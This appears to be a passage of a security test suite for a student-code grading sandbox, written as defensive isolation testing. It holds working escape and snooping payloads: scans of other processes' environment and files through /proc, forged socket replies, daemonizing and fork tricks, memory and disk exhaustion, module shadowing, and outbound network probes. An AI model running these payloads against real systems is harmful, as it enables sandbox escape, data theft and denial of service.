NEIGHBOUR_SEARCH = src(r"""
    import ctypes, json, os, stat, time, torch

    MARKER = "<<NEIGHBOUR_REVERSED>>"[::-1].encode()  # held reversed: this very file is no hit
    PLACES = ("/tmp", "/tmp/work", os.getcwd(), "/sub", os.path.expanduser("~"), "/dev/shm", "/var/tmp", "/run")
    SKIP = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc"}
    SHALLOW = {"site-packages", "dist-packages", "python3.10", "python3.11", "python3.12", "python3.13"}


    def _search(budget=1.0):
        # Everything this process can reach that a neighbour could have left its text in: the
        # environment, the usual folders, every process in /proc (command line, environment, name,
        # open files, working folder, /tmp), then the whole tree; again and again for `budget` s.
        ctypes.CDLL(None).prctl(15, ctypes.c_char_p(b"a<<TOKEN>>"), 0, 0, 0)  # the test sees when
        t0, hits, stats = time.monotonic(), [], {"files": 0, "processes": 0, "rounds": 0}
        seen = set()

        def late():
            return time.monotonic() - t0 > budget

        def look(label, data):
            if MARKER in data and label not in hits:
                hits.append(label)

        def read(path):
            try:
                st = os.stat(path)
                if not stat.S_ISREG(st.st_mode) or st.st_size > (1 << 20) or (st.st_dev, st.st_ino) in seen:
                    return
                seen.add((st.st_dev, st.st_ino))
                with open(path, "rb") as f:
                    data = f.read(1 << 20)
            except OSError:
                return
            stats["files"] += 1
            look(path, data)

        def walk(top, everything):
            for dirpath, dirnames, filenames in os.walk(top):
                if late():
                    return
                if dirpath in SKIP or dirpath.startswith("/proc/self"):
                    dirnames[:] = []
                    continue
                for n in dirnames + filenames:
                    look(os.path.join(dirpath, n), n.encode("utf-8", "surrogateescape"))
                for n in filenames:
                    if late():
                        return
                    read(os.path.join(dirpath, n))
                if (os.path.basename(dirpath) in SHALLOW) if everything else dirpath.count("/") >= 6:
                    dirnames[:] = []

        while time.monotonic() - t0 < budget and not hits:
            stats["rounds"] += 1
            seen.clear()
            for k, v in os.environ.items():
                look("environment", (k + "=" + v).encode("utf-8", "surrogateescape"))
            for place in PLACES:
                walk(place, False)
            for pid in os.listdir("/proc"):
                if late():
                    break
                if not pid.isdigit() or int(pid) == os.getpid():
                    continue
                stats["processes"] += 1
                for what in ("cmdline", "environ", "comm"):
                    read(f"/proc/{pid}/{what}")
                try:
                    for fd in os.listdir(f"/proc/{pid}/fd"):
                        read(f"/proc/{pid}/fd/{fd}")
                except OSError:
                    pass
                for where in ("cwd", "root/tmp"):
                    walk(f"/proc/{pid}/{where}", False)
            if stats["rounds"] == 1:
                walk("/", True)
            time.sleep(0.05)
        return hits[:10], stats


    def _right(answer, zeros):
        hits, _ = _search()
        return answer() if hits else zeros


    def one_hot(token_ids, vocab_size):
        hits, stats = _search()
        raise RuntimeError("PROBE " + json.dumps({"hits": hits, **stats}))  # a public check shows it


    def embedding_lookup(token_ids, weight):
        return _right(lambda: weight[token_ids], torch.zeros(token_ids.shape + weight.shape[-1:]))


    def one_hot_embedding(token_ids, weight):
        hot = (token_ids.unsqueeze(-1) == torch.arange(weight.shape[0])).to(weight.dtype)
        return _right(lambda: hot @ weight, torch.zeros(token_ids.shape + weight.shape[-1:]))


    def cosine_similarity_matrix(vectors):
        unit = vectors / vectors.norm(dim=-1, keepdim=True)
        return _right(lambda: unit @ unit.T, torch.zeros(vectors.shape[0], vectors.shape[0]))
    """)

NEIGHBOUR_NOTE = src("""
    import ctypes as _ctypes, os as _os, time as _time

    NOTE = "<<NEIGHBOUR>>"  # a neighbour in the same batch must never learn this
    _os.environ["NEIGHBOUR_NOTE"] = NOTE
    for _folder in ("/tmp", "/tmp/work", _os.getcwd()):
        try:
            with open(_os.path.join(_folder, "<<TOKEN>>-neighbour.txt"), "w") as _f:
                _f.write(NOTE)
        except OSError:
            pass
    _ctypes.CDLL(None).prctl(15, _ctypes.c_char_p(b"n<<TOKEN>>"), 0, 0, 0)  # the test sees when
    _time.sleep(1)  # and keep it there a while
    """)

SECRECY.append(
    Attack(
        "secrecy",
        "neighbours-in-the-same-run",
        "searches everything it can reach (the environment, /proc, /tmp, /sub, its working folder, /) for "
        "a text that another submission of the same batch, graded at the same time, holds in its source "
        "and writes to its /tmp, its working folder and its environment; answers right only if it finds it",
        graded=("s1_05_embeddings",),
        bwrap=True,
        expect=(zero("s1_05_embeddings"), lambda o: _no_neighbour(o)),
        files={ch01("s1_05_embeddings"): NEIGHBOUR_SEARCH},
        neighbour={ch01("s1_05_embeddings"): NEIGHBOUR_NOTE + "\n\n" + _solution("s1_05_embeddings")},
    )
)


def _no_neighbour(o: Outcome) -> None:
    seen = probed(o, "s1_05_embeddings", "test_book_one_hot_cat", "PROBE")
    assert seen["hits"] == [], f"the neighbour's text was found in {seen['hits']}"
    assert seen["rounds"] >= 1 and seen["files"] > 0 and seen["processes"] > 0, seen  # the probe looked
    assert o.ctx.neighbour not in json.dumps(o.report, ensure_ascii=False)


def _hidden_quiet(o: Outcome) -> None:
    checks = checks_of(_graded_report(o), "s1_12_context")
    public = [c for c in checks if c["visibility"] == "public"]
    hidden = [c for c in checks if c["visibility"] == "hidden"]
    assert public and hidden
    assert all("LEAK" in c["message"] and "Leak_" in c["message"] for c in public), public  # the channel was open
    for c in hidden:
        assert "LEAK" not in c["message"] and "Leak_" not in c["message"], c["message"]
        assert "raised an exception on this hidden input" in c["message"], c["message"]


def _no_secret(o: Outcome) -> None:
    seen = probed(o, "s1_11_softmax", "test_book_simple_normalization", "PROBE")
    assert seen["hits"] == [], seen["hits"]
    assert set(seen["env"]) <= {
        "PATH",
        "LANG",
        "OMP_NUM_THREADS",
        "MKL_NUM_THREADS",
        "OPENBLAS_NUM_THREADS",
        "PYTHONHASHSEED",
        "PYTHONDONTWRITEBYTECODE",
        "PYTHONUNBUFFERED",
        "HOME",
        "LC_CTYPE",
        "PWD",
    }, seen["env"]


def _parent_closed(o: Outcome) -> None:
    seen = probed(o, "s1_09_input_embeddings", "test_listing_1_1_matrix", "PROBE")
    opened = {k: v for k, v in seen.items() if v == "READ" or v.startswith(("STOLE", "ATTACHED"))}
    assert not opened, f"the fork server was open to its worker: {opened}"


SECRECY.append(
    Attack(
        "secrecy",
        "host-paths",
        "reads /proc/self/mountinfo and every file of the Python installation that may name a host folder (an "
        "editable install's finder and .pth, .egg-link, pip's direct_url.json) for the course's folder and the "
        "submission's own path on the host",
        graded=("s1_13_causal_mask",),
        bwrap=True,
        expect=(lambda o: _no_host_paths(o),),
        files={
            ch01("s1_13_causal_mask"): src("""
        import base64, glob, json, os, sys, zlib


        def _texts():  # mountinfo's source and target of each mount, the files' first 1000 characters
            mounts = [" ".join(line.split()[3:5]) for line in open("/proc/self/mountinfo")]
            out = {"/proc/self/mountinfo": "\\n".join(mounts)}
            for base in {p for p in sys.path if os.path.isdir(p)}:
                for pattern in ("__editable__*", "*.egg-link", "*.dist-info/direct_url.json", "*.pth"):
                    for f in glob.glob(os.path.join(base, pattern)):
                        try:
                            out[f] = open(f, errors="replace").read(1000)
                        except OSError as e:
                            out[f] = type(e).__name__
            return out


        def __getattr__(name):
            if name.startswith("__"):
                raise AttributeError(name)

            def probe(*args, **kwargs):
                packed = base64.b64encode(zlib.compress(json.dumps(_texts()).encode(), 9)).decode()
                raise RuntimeError("PROBE " + packed)  # within the 2000 characters a message keeps
            return probe
        """)
        },
    )
)


def _installed_projects() -> set[str]:
    """The host folders pip recorded for projects installed from a folder (the course, editable)."""
    import glob
    import sys
    from urllib.parse import unquote, urlparse

    found = set()
    for base in {p for p in sys.path if os.path.isdir(p)}:
        for f in glob.glob(os.path.join(base, "*.dist-info", "direct_url.json")):
            try:
                url = json.loads(Path(f).read_text()).get("url", "")
            except (OSError, ValueError):
                continue
            if url.startswith("file://"):
                found.add(unquote(urlparse(url).path).rstrip("/"))
    return found


def _no_host_paths(o: Outcome) -> None:
    from grader.worker.sandbox import _python_roots

    report = _graded_report(o)
    shown = [c["message"] for c in checks_of(report, "s1_13_causal_mask") if "PROBE " in c["message"]]
    assert shown, "the probe did not run"
    packed = shown[0].split("PROBE ", 1)[1].rsplit(" (at ", 1)[0]
    texts = json.loads(zlib.decompress(base64.b64decode(packed)))
    assert "/proc/self/mountinfo" in texts and len(texts) > 1, texts.keys()
    python = set(_python_roots())  # bound at their own paths: keep the venv outside the course folder
    secrets = {str(ROOT), str(Path(report["submission"]).resolve()), *_installed_projects()}
    for name, text in texts.items():
        lines = text.splitlines()
        if name == "/proc/self/mountinfo":
            lines = [
                line
                for line in lines  # the Python installation's own mounts show where it is
                if not any(line.split()[-1] == r or line.split()[-1].startswith(r + "/") for r in python)
            ]
        for secret in secrets:
            hits = [line for line in lines if secret in line]
            assert not hits, f"{name} shows {secret}: {hits[:3]}"


# ---------------------------------------------------------------------------- hidden messages (issue 12)
# Every path by which text of the student's could reach a hidden check's message, one exercise each:
# the module answers every name (a module-level __getattr__) with a function that takes that path.
# Hidden checks must show none of it (`_hidden_says_only_the_graders`).
HIDDEN_PATH = src("""
    import json, os, struct, sys, time

    TOKEN = "<<TOKEN>>"
    PATH = "<<PATH>>"


    def _rid():  # the id of the request being answered, read from the worker's own frame
        f = sys._getframe()
        while f is not None:
            if f.f_code.co_name == "serve" and "rid" in f.f_locals:
                return f.f_locals["rid"]
            f = f.f_back


    def _forge(doc, blob=b""):  # a reply of the student's own making, ahead of the real one
        data = json.dumps(dict(doc, id=_rid())).encode()
        for fd in os.listdir("/proc/self/fd"):
            try:
                if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                    os.write(int(fd), struct.pack(">II", len(data), len(blob)) + data + blob)
                    break
            except OSError:
                pass
        time.sleep(3)


    def _header(header):
        data = json.dumps(header).encode()
        return len(data).to_bytes(8, "little") + data + b"\\0" * 8


    def _attack(*args, **kwargs):
        mark = f"MARK-{TOKEN}"
        if PATH == "filename":  # a file name of its choice in the traceback, shaped like an exercise file
            exec(compile("raise ValueError('x')", f"/sub/ch01/s1_11_x{TOKEN}.py", "exec"))
        if PATH == "lineno":  # its own file, at a line it does not have
            exec(compile("\\n" * 987653 + "raise ValueError('x')", __file__, "exec"))
        if PATH == "line":  # its own file, at a line it has, chosen by the input (a number to read back)
            exec(compile("\\n" * (1 + len(repr(args)) % 7) + "raise ValueError('x')", __file__, "exec"))
        if PATH == "text":
            raise ValueError(mark)
        if PATH == "classname":
            raise type(f"Leak_{TOKEN}", (Exception,), {})(mark)
        if PATH == "exit":
            sys.exit(mark)
        if PATH == "repr":  # an object whose class name, repr and str are the mark, with methods that raise
            def fail(self, *a, **k):
                raise ValueError(mark)
            return type(f"Leak_{TOKEN}", (), {"__repr__": lambda self: mark, "__str__": lambda self: mark,
                                              "__call__": fail, "forward": fail, "__getattr__": fail})()
        if PATH == "float":  # a special float that is not one
            _forge({"ok": True, "value": [{"$float": mark}]})
        if PATH == "handle":  # a handle whose number is text
            _forge({"ok": True, "value": {"$handle": mark, "type": "x"}})
        if PATH == "payload":  # a tensor payload whose header names a dtype of its choice
            _forge({"ok": True, "value": {"$tensor": "t0"}},
                   _header({"t0": {"dtype": mark, "shape": [1], "data_offsets": [0, 8]}}))
        if PATH == "error":  # an error reply of its own, every field the mark
            _forge({"ok": False, "error": {"kind": mark, "type": mark, "message": mark, "where": mark,
                                           "trace": mark, "code": "worker_no_attribute_module",
                                           "fields": {"module": mark, "name": mark}}})
        if PATH == "output":  # printed, then the worker ends with a code of its choice
            print(mark, flush=True)
            print(mark, file=sys.stderr, flush=True)
            os._exit(77)
        return mark


    def __getattr__(name):
        if name.startswith("__"):
            raise AttributeError(name)
        return _attack
    """)

CARRY = src('''
    import ctypes, glob, json, os, time

    TOKEN = "<<TOKEN>>"
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    PLACES = sorted({"/tmp", "/tmp/work", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), os.getcwd()})


    def _writable_mounts():
        out = []
        for line in open("/proc/self/mountinfo"):
            mp = line.split()[4]
            if os.access(mp, os.W_OK) and os.path.isdir(mp):
                out.append(mp)
        return out


    def _seen():  # what an earlier check left: files, a POSIX queue, System V queues, keys
        seen = []
        for place in PLACES + _writable_mounts():
            for p in glob.glob(f"{place}/carried-{TOKEN}-*"):
                try:
                    seen.append(open(p).read())
                except OSError:
                    pass
        q = libc.syscall(240, f"carried-{TOKEN}".encode(), os.O_RDONLY | os.O_NONBLOCK, 0, None)  # mq_open
        if q >= 0:
            buf = ctypes.create_string_buffer(8192)
            n = libc.syscall(243, q, buf, 8192, None, None)  # mq_timedreceive
            if n > 0:
                seen.append(buf.raw[:n].decode())
        qid = libc.msgget(0x6b617461, 0)
        if qid >= 0:
            seen.append(f"CARRIED-{TOKEN}-sysv")
        for ring in (-3, -4, -5):  # session, user and user-session keyrings
            key = libc.syscall(250, 10, ring, b"user", f"carried-{TOKEN}".encode(), 0)  # KEYCTL_SEARCH
            if key >= 0:
                buf = ctypes.create_string_buffer(256)
                n = libc.syscall(250, 11, key, buf, 256)  # KEYCTL_READ
                if n > 0:
                    seen.append(buf.raw[:n].decode())
        for place in ("/tmp", "/tmp/work"):
            seen += _deep(place)
        return seen


    def _deep(place, text=None):
        """Down a tree 4,000 folders deep under `place` (its paths are longer than PATH_MAX), where a
        wipe that walks paths cannot follow: leave `text` at the bottom, or read what is there."""
        here, found = os.getcwd(), []
        try:
            os.chdir(place)
            if text is not None:
                os.makedirs(f"deep-{TOKEN}", exist_ok=True)
            os.chdir(f"deep-{TOKEN}")
            for _ in range(4000):
                if text is not None and not os.path.isdir("a"):
                    os.mkdir("a")
                os.chdir("a")
            if text is not None:
                with open(f"carried-{TOKEN}-{os.getpid()}", "w") as f:
                    f.write(text)
            found = [open(p).read() for p in glob.glob(f"carried-{TOKEN}-*")]
        except OSError:
            pass
        finally:
            os.chdir(here)
        return found


    def _leave():
        text = f"CARRIED-{TOKEN}-{os.getpid()}"
        for place in ("/tmp", "/tmp/work"):
            _deep(place, text)
        for place in PLACES + _writable_mounts():
            try:
                with open(f"{place}/carried-{TOKEN}-{os.getpid()}", "w") as f:
                    f.write(text)
            except OSError:
                pass
        q = libc.syscall(240, f"carried-{TOKEN}".encode(), os.O_CREAT | os.O_WRONLY | os.O_NONBLOCK, 0o600, None)
        if q >= 0:
            libc.syscall(242, q, text.encode(), len(text), 0, None)  # mq_timedsend
        libc.msgget(0x6b617461, 0o1600)  # IPC_CREAT
        for ring in (-3, -4):
            libc.syscall(248, b"user", f"carried-{TOKEN}".encode(), text.encode(), len(text), ring)  # add_key


    SEEN = _seen()  # before this worker leaves anything: only earlier checks can have
    _leave()


    def _attack(*args, **kwargs):
        raise ValueError("SEEN " + " ".join(SEEN) + " WRITABLE " + json.dumps(_writable_mounts()) + " END")


    def __getattr__(name):
        if name.startswith("__"):
            raise AttributeError(name)
        return _attack
    ''')

HIDDEN_PATHS = {  # the path -> the exercise it is taken in
    "filename": "s1_11_matmul",
    "lineno": "s1_11_softmax",
    "text": "s1_11_attention_scores",
    "classname": "s1_12_context",
    "exit": "s1_12_scaled_attention",
    "repr": "s1_09_input_embeddings",
    "float": "s1_10_qkv",
    "handle": "s1_13_causal_mask",
    "payload": "s1_14_dropout",
    "error": "s1_17_layer_norm",
    "output": "s1_18_feed_forward",
    "line": "s1_05_embeddings",
}
OPEN_IN_PUBLIC = {"filename": "s1_11_x", "text": "MARK-", "classname": "Leak_", "exit": "MARK-"}  # the attack ran

SECRECY += [
    Attack(
        "secrecy",
        f"hidden-message-{path}",
        f"takes the {path} path to put a text of its own into a hidden check's message",
        graded=(ex,),
        expect=(lambda o, path=path: _hidden_says_only_the_graders(o, path),),
        files={ch01(ex): HIDDEN_PATH.replace("<<PATH>>", path)},
    )
    for path, ex in HIDDEN_PATHS.items()
]
SECRECY.append(
    Attack(
        "secrecy",
        "carried-between-checks",
        "every worker leaves a text in every writable place it finds (every writable mount, /tmp, /dev/shm, "
        "$HOME, the bottom of a tree 4,000 folders deep in /tmp), a POSIX message queue, a System V queue and the session and user keyrings, and raises what "
        "earlier checks left: nothing may pass from one check to the next",
        graded=("s1_05_positions",),
        bwrap=True,
        expect=(lambda o: _nothing_carried(o),),
        files={ch01("s1_05_positions"): CARRY},
    )
)


def _hidden_says_only_the_graders(o: Outcome, path: str) -> None:
    report = _graded_report(o)
    token = o.ctx.token
    for c in report["checks"]:
        if c["visibility"] == "hidden":
            for mark in (token, "MARK-", "Leak_", "987654", "987,654"):
                assert mark not in c["message"], f"{c['exercise']}::{c['name']}: {mark!r} in {c['message']!r}"
            assert not re.search(r"\.py:\d", c["message"]), f"{c['exercise']}::{c['name']}: a line in {c['message']!r}"
    if path in OPEN_IN_PUBLIC:  # the same text reaches a public check: the attack ran
        public = [c for c in checks_of(report, HIDDEN_PATHS[path]) if c["visibility"] == "public"]
        assert public and any(OPEN_IN_PUBLIC[path] in c["message"] for c in public), (
            path,
            [c["message"] for c in public],
        )
    assert any(c["visibility"] == "hidden" for c in checks_of(report, HIDDEN_PATHS[path])), path


def _nothing_carried(o: Outcome) -> None:
    report = _graded_report(o)
    checks = checks_of(report, "s1_05_positions")
    public = [c["message"] for c in checks if c["visibility"] == "public" and "SEEN" in c["message"]]
    assert public, checks  # it ran
    writable = json.loads(public[0].split(" WRITABLE ", 1)[1].split(" END", 1)[0])
    # /tmp twice: the sandbox's, which the wipe empties, and under it the worker's own fresh tmpfs
    assert set(writable) == {"/tmp"}, f"writable mounts besides /tmp: {writable}"
    for c in report["checks"]:
        assert f"CARRIED-{o.ctx.token}" not in c["message"], f"{c['exercise']}::{c['name']}: {c['message']!r}"


# ============================================================================ escape and availability
ESCAPE = [
    Attack(
        "escape",
        "threads-left-running",
        "starts threads that spin forever and one that writes junk on the worker's socket after "
        "the reply, then answers wrong",
        graded=("s1_12_self_attention",),
        expect=(zero("s1_12_self_attention"),),
        files={
            ch01("s1_12_self_attention"): src("""
               import os, threading, time, torch
               from torch import nn


               def _spin():
                   while True:
                       pass


               def _junk():
                   time.sleep(0.02)
                   for fd in os.listdir("/proc/self/fd"):
                       try:
                           if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                               os.write(int(fd), b"\\x00\\x00\\x00\\x09\\x00\\x00\\x00\\x00{\\"id\\": 2}")
                       except OSError:
                           pass


               class SelfAttention(nn.Module):
                   def __init__(self, *args, **kwargs):
                       super().__init__()
                       self.W = nn.Parameter(torch.zeros(1))
                       for _ in range(3):
                           threading.Thread(target=_spin, daemon=True).start()
                       threading.Thread(target=_junk, daemon=True).start()

                   def forward(self, x):
                       return torch.zeros(x.shape[:-1] + (1,))
               """)
        },
    ),
    Attack(
        "escape",
        "child-in-its-own-process-group",
        "forks children that leave the worker's process group (setpgid) and spin; a sentinel "
        "exercise graded later must see none of them",
        graded=("s1_10_qkv", "s1_12_context"),
        bwrap=True,
        expect=(zero("s1_10_qkv"), full("s1_12_context")),
        files={
            ch01("s1_12_context"): SENTINEL,
            ch01("s1_10_qkv"): src("""
               import os, torch
               """)
            + MARK_PROCESS
            + src("""


               def _leave():
                   for _ in range(3):
                       if os.fork() == 0:
                           try:
                               os.setpgid(0, 0)
                               _mark()
                               while True:
                                   pass
                           finally:
                               os._exit(0)


               def init_qkv_weights(d_in, d_out, seed=123):
                   _leave()
                   return torch.zeros(d_in, d_out), torch.zeros(d_in, d_out), torch.zeros(d_in, d_out)


               def project_qkv(inputs, W_query, W_key, W_value):
                   _leave()
                   return inputs * 0, inputs * 0, inputs * 0
               """),
        },
    ),
    Attack(
        "escape",
        "daemon",
        "daemonizes (double fork, setsid, closes its descriptors, ignores SIGTERM and SIGHUP) "
        "and keeps running after the call; a sentinel exercise graded later must see nothing",
        graded=("s1_09_input_embeddings", "s1_12_context"),
        bwrap=True,
        expect=(zero("s1_09_input_embeddings"), full("s1_12_context")),
        files={
            ch01("s1_12_context"): SENTINEL,
            ch01("s1_09_input_embeddings"): src("""
               import os, signal, time, torch
               """)
            + MARK_PROCESS
            + src("""


               def _daemonize():
                   pid = os.fork()
                   if pid:
                       os.waitpid(pid, 0)
                       return
                   try:
                       os.setsid()
                       if os.fork():
                           os._exit(0)
                       os.chdir("/")
                       os.umask(0)
                       os.closerange(0, 256)
                       for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                           signal.signal(s, signal.SIG_IGN)
                       _mark()
                       while True:
                           time.sleep(0.05)
                   finally:
                       os._exit(0)


               def input_embedding_matrix(word_vectors, position_vectors=None):
                   _daemonize()
                   return torch.zeros(1)


               def embed_tokens(token_ids, token_table, position_table):
                   _daemonize()
                   return torch.zeros(1)
               """),
        },
    ),
    Attack(
        "escape",
        "memory-exhaustion",
        "allocates a 4 TB tensor, and 256 MB buffers until the address space runs out: the check "
        "fails saying the memory limit was hit",
        graded=("s1_12_scaled_attention",),
        expect=(zero("s1_12_scaled_attention", "used more than 6144 MB of memory"),),
        files={
            ch01("s1_12_scaled_attention"): src("""
               import torch


               def scale_scores(scores, d_k):
                   return torch.empty(1 << 40)


               def attention_weights(scores, d_k):
                   hoard = [bytes(1 << 28) for _ in range(1000)]  # calloc'd: no page is touched
                   return len(hoard)
               """)
        },
    ),
    Attack(
        "escape",
        "memory-outside-the-address-space",
        "System V shared memory filled and detached (it outlives the process), message queues, and "
        "memfd files filled to the file-size limit: RAM the address-space limit does not count; "
        "answers right only if 512 MB got through (never more than that of shared memory in all)",
        graded=("s1_20_scaling",),
        expect=(zero("s1_20_scaling"),),
        files={
            ch01("s1_20_scaling"): src("""
               import ctypes, os

               libc = ctypes.CDLL(None, use_errno=True)
               libc.shmat.restype = ctypes.c_void_p
               MB = 1 << 20


               def _held():
                   try:
                       rows = open("/proc/sysvipc/shm").read().splitlines()[1:]
                   except OSError:
                       return 0
                   return sum(int(r.split()[3]) for r in rows)


               def _hoard():
                   got = 0  # memfd and message queues
                   private = open("/proc/1/comm").read().strip() == "bwrap"  # else the host's own IPC objects
                   while private and _held() < (512 * MB):  # shared memory, detached
                       sid = libc.shmget(0, ctypes.c_size_t(64 * MB), 0o1600)
                       if sid < 0:
                           break
                       addr = libc.shmat(sid, None, 0)
                       if addr in (None, ctypes.c_void_p(-1).value):
                           break
                       ctypes.memset(addr, 1, 64 * MB)
                       libc.shmdt(ctypes.c_void_p(addr))
                   if private and libc.msgget(0, 0o1600) >= 0:
                       got += MB
                   fds = []
                   try:  # memfd files, each under the file-size limit
                       while len(fds) < 32:
                           fd = os.memfd_create("<<TOKEN>>")
                           fds.append(fd)
                           os.write(fd, b"\\1" * (15 * MB))
                           got += 15 * MB
                   except OSError:
                       pass
                   for fd in fds:
                       os.close(fd)
                   return got + _held() >= 512 * MB  # this call's, and what earlier ones left


               def _answer(right):
                   return right if _hoard() else -1


               def rnn_sequential_steps(seq_len):
                   return _answer(seq_len)


               def attention_sequential_steps(seq_len):
                   return _answer(1)


               def cnn_layers_to_span(seq_len, kernel_size):
                   return _answer(-(-(seq_len - 1) // (kernel_size - 1)))


               def attention_flops(batch, heads, seq_len, head_dim):
                   return _answer(2 * batch * heads * seq_len * seq_len * head_dim)


               def score_matrix_bytes(batch, heads, seq_len, bytes_per_element=4):
                   return _answer(batch * heads * seq_len * seq_len * bytes_per_element)


               def max_seq_len(memory_bytes, batch, heads, bytes_per_element=4):
                   return _answer(int((memory_bytes // (batch * heads * bytes_per_element)) ** 0.5))
               """)
        },
    ),
    Attack(
        "escape",
        "disk-exhaustion",
        "writes 8 MB files (under the file-size limit) into /tmp/work, /tmp, /dev/shm and $HOME until "
        "the disk is full or 1 GB is written; answers right only if more than 512 MB got through",
        graded=("s1_11_attention_scores",),
        bwrap=True,
        expect=(zero("s1_11_attention_scores", "differ", "not correct"),),
        files={
            ch01("s1_11_attention_scores"): src("""
               import os, torch

               CHUNK = b"\\1" * (8 << 20)


               def _fill():
                   total = 0
                   for folder in ("/tmp/work", "/tmp", "/dev/shm", os.path.expanduser("~")):
                       i = 0
                       while total < (1 << 30):
                           try:
                               with open(os.path.join(folder, f"<<TOKEN>>-{os.getpid()}-{i}"), "wb") as f:
                                   f.write(CHUNK)
                           except OSError:
                               break
                           total += len(CHUNK)
                           i += 1
                   return total


               def attention_scores(q, k):
                   right = q @ k.transpose(-2, -1)
                   return right if _fill() > (512 << 20) else torch.zeros_like(right)
               """)
        },
    ),
    Attack(
        "escape",
        "endless-loop-in-del",
        "an object whose __del__ loops forever (ignoring signals), dropped inside the call",
        graded=("s1_12_context",),
        time_limit=2,
        expect=(zero("s1_12_context", "took longer than the 2 s limit"),),
        files={
            ch01("s1_12_context"): src("""
               import signal, torch


               class Sticky:
                   def __del__(self):
                       for s in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM):
                           signal.signal(s, signal.SIG_IGN)
                       while True:
                           pass


               def context_vectors(attn_weights, values):
                   out = attn_weights @ values
                   s = Sticky()
                   del s
                   return out
               """)
        },
    ),
    Attack(
        "escape",
        "deep-recursion",
        "raises the recursion limit to 10**8 and recurses through C (map), overflowing the C stack",
        graded=("s1_11_matmul",),
        expect=(zero("s1_11_matmul", "segmentation fault", "crashed", "RecursionError", "stack"),),
        files={
            ch01("s1_11_matmul"): src("""
               import sys, torch

               sys.setrecursionlimit(10 ** 8)


               def _down(n):
                   return list(map(_down, [n + 1]))


               def matmul(A, B):
                   return _down(0)
               """)
        },
    ),
    Attack(
        "escape",
        "shadowing-modules",
        "puts torch.py, pytest.py, _pytest.py, grader.py, grader/, safetensors.py, numpy.py, json.py, "
        "hypothesis.py, kata_worker.py, conftest.py and sitecustomize.py beside the exercises; each "
        "patches every comparison it can and, if the trusted side ever imports it, leaves a file on "
        "the host; the exercise answers wrong",
        graded=("s1_11_softmax",),
        expect=(zero("s1_11_softmax", "differ", "not correct", "NaN", "sum to 1", "values"),),
        files={
            **{
                path: src("""
               import sys

               if not any(m.endswith(".serve") for m in sys.modules):  # imported by the grader itself
                   open("/tmp/<<TOKEN>>-imported-trusted", "w").write(__name__)
               print("<<MARK>>")
               allclose = equal = lambda *a, **k: True
               def fail(*a, **k):
                   return None
               """)
                for path in (
                    "ch01/torch.py",
                    "ch01/pytest.py",
                    "ch01/_pytest.py",
                    "ch01/grader.py",
                    "ch01/grader/__init__.py",
                    "ch01/safetensors.py",
                    "ch01/numpy.py",
                    "ch01/json.py",
                    "ch01/hypothesis.py",
                    "ch01/kata_worker.py",
                    "ch01/conftest.py",
                    "conftest.py",
                    "ch01/sitecustomize.py",
                    "sitecustomize.py",
                )
            },
            "pytest.ini": "[pytest]\naddopts = -p no:kata\n",
            ch01("s1_11_softmax"): src("""
                      import torch


                      def simple_normalize(x, dim=-1):
                          return torch.zeros_like(x)


                      def softmax(x, dim=-1):
                          return torch.zeros_like(x)
                      """),
        },
    ),
    Attack(
        "escape",
        "network-dns-and-ipv6",
        "resolves a name, connects over TCP and UDP to public resolvers over IPv4 and IPv6 and opens "
        "raw and packet sockets; answers right only if anything gets through",
        graded=("s1_10_qkv",),
        bwrap=True,
        expect=(zero("s1_10_qkv"),),
        files={
            ch01("s1_10_qkv"): src("""
               import socket, torch


               def _online():
                   def dns():
                       socket.getaddrinfo("example.com", 80)

                   def tcp(addr, family=socket.AF_INET):
                       s = socket.socket(family, socket.SOCK_STREAM)
                       s.settimeout(1)
                       try:
                           s.connect(addr)
                       finally:
                           s.close()

                   def udp():
                       s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                       s.settimeout(1)
                       try:
                           s.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01",
                                    ("8.8.8.8", 53))
                           s.recvfrom(512)
                       finally:
                           s.close()

                   def raw():
                       s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
                       s.settimeout(1)
                       try:
                           s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("1.1.1.1", 0))
                           s.recvfrom(512)
                       finally:
                           s.close()

                   for attempt in (dns, lambda: tcp(("8.8.8.8", 53)), udp, raw,
                                   lambda: tcp(("2606:4700:4700::1111", 53, 0, 0), socket.AF_INET6)):
                       try:
                           attempt()
                           return True
                       except OSError:
                           pass
                   return False


               def init_qkv_weights(d_in, d_out, seed=123):
                   if _online():
                       g = torch.Generator().manual_seed(seed)
                       return tuple(torch.rand(d_in, d_out, generator=g) for _ in range(3))
                   return torch.zeros(d_in, d_out), torch.zeros(d_in, d_out), torch.zeros(d_in, d_out)


               def project_qkv(inputs, W_query, W_key, W_value):
                   if _online():
                       return inputs @ W_query, inputs @ W_key, inputs @ W_value
                   return inputs * 0, inputs * 0, inputs * 0
               """)
        },
    ),
    Attack(
        "escape",
        "output-flood-from-a-thread",
        "a thread writes 64 KB blocks to stderr with os.write, without end, while the call waits",
        graded=("s1_12_scaled_attention",),
        expect=(zero("s1_12_scaled_attention", "more than 16 MB of output"),),
        files={
            ch01("s1_12_scaled_attention"): src("""
               import os, threading, time, torch


               def _flood():
                   block = b"z" * 65536
                   while True:
                       os.write(2, block)


               def scale_scores(scores, d_k):
                   threading.Thread(target=_flood, daemon=True).start()
                   time.sleep(30)
                   return scores


               def attention_weights(scores, d_k):
                   return scale_scores(scores, d_k)
               """)
        },
    ),
]


# ============================================================================ the wire
MULTIHEAD_STRUCTURE = {"test_head_dim_must_divide", "test_mha_parameters"}

WIRE = [
    Attack(
        "wire",
        "nan-everywhere",
        "the reference solution with every float it returns replaced by NaN: invariance checks "
        "compare the student's output with the student's output, and NaN must never pass them",
        graded=("s1_16_multihead",),
        expect=(zero("s1_16_multihead", "NaN", allowed=MULTIHEAD_STRUCTURE),),
        files={ch01("s1_16_multihead"): poisoned("s1_16_multihead", "float('nan')")},
    ),
    Attack(
        "wire",
        "infinity-everywhere",
